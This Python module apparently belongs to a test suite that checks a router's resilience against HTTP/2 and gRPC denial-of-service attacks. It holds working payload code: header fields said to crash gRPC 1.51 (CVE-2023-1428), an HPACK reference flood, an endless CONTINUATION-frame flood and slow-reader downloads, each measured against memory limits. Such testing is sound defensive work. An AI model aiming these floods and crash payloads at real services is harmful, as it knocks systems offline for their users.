"""What outsiders do to the router. Against a server alone some of it is deadly."""

import contextlib
import time

import frames
from attacks import LOCALIZE, many_connections, many_streams, rapid_reset
from download_attacks import begin_downloads
from request_attacks import process_state


def deadly_headers(case):
    """The header fields that abort gRPC 1.51 (CVE-2023-1428), call after call."""
    block = frames.header_block([
        (":method", "POST"), (":scheme", "x"), (":path", LOCALIZE), (":authority", "dcloc"),
        ("content-type", "application/grpc"), ("te", "x"), ("grpclb_client_stats", "x")])
    _calls(case, lambda connection, stream: connection.sendall(
        frames.frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, block)))


def hpack_flood(case):
    """Calls whose compressed headers grow: a field of 3,500 bytes in the table, and 4,000 references to
    it in each call (CVE-2023-32731, CVE-2023-32732, CVE-2023-33953)."""
    common = frames.call_headers(LOCALIZE)
    kept = b"\x40" + b"\x01x" + b"\x7f" + _number(3500 - 127) + b"v" * 3500

    def call(connection, stream):
        block = common + (kept if stream == 1 else b"") + b"\xbe" * 4000
        connection.sendall(frames.frame(frames.HEADERS, frames.END_HEADERS, stream, block))

    _calls(case, call)


def continuation_flood(case):
    """Headers that never end: CONTINUATION frames of 16 KiB, on one connection after the other. gRPC
    1.51 alone keeps twice what is sent for as long as the connection lasts."""
    begin = frames.frame(frames.HEADERS, 0, 1, frames.call_headers(LOCALIZE))
    field = b"\x00\x01a" + b"\x7f" + _number(16_128 - 127) + b"v" * 16_128
    more = frames.frame(frames.CONTINUATION, 0, 1, field) * 4
    with case.with_town() as target:
        before, sent = process_state(target)[0], 0
        with case.meanwhile(target):
            end = time.monotonic() + case.seconds
            while time.monotonic() < end:
                with contextlib.suppress(OSError), \
                        contextlib.closing(frames.connect(target.address)) as connection:
                    connection.sendall(begin)
                    while time.monotonic() < end:
                        connection.sendall(more)
                        sent += len(more)
        case.figures["MB sent"] = round(sent / 1e6)
        case.figures["MiB more"] = process_state(target)[0] - before
        case.expect(case.figures["MiB more"] <= 40, f"it took {case.figures['MiB more']} MiB")


def _number(value):
    """The rest of an HPACK number beyond its prefix."""
    text = b""
    while value >= 128:
        text += bytes([value % 128 | 128])
        value //= 128
    return text + bytes([value])


def _calls(case, call):
    """Calls on one connection after the other, as fast as they are taken."""
    with case.with_town() as target:
        begun = connections = 0
        with case.meanwhile(target):
            time.sleep(1)
            end = time.monotonic() + case.seconds
            while time.monotonic() < end:
                with contextlib.suppress(OSError), \
                        contextlib.closing(frames.connect(target.address)) as connection:
                    connections += 1
                    for stream in range(1, 20_000, 2):
                        call(connection, stream)
                        begun += 1
                        if time.monotonic() > end:
                            break
            time.sleep(0.5)
        case.figures["calls"], case.figures["connections"] = begun, connections


def slow_readers(case):
    """200 connections with 20 downloads of a map each, which take no answer."""
    with case.with_town() as target, contextlib.ExitStack() as connections:
        with case.meanwhile(target):
            case.figures["downloads"] = begin_downloads(case, target, connections, 200, 20)
            time.sleep(case.seconds)


ROUTER_ATTACKS = [deadly_headers, hpack_flood, continuation_flood, slow_readers, rapid_reset,
                  many_streams, many_connections]
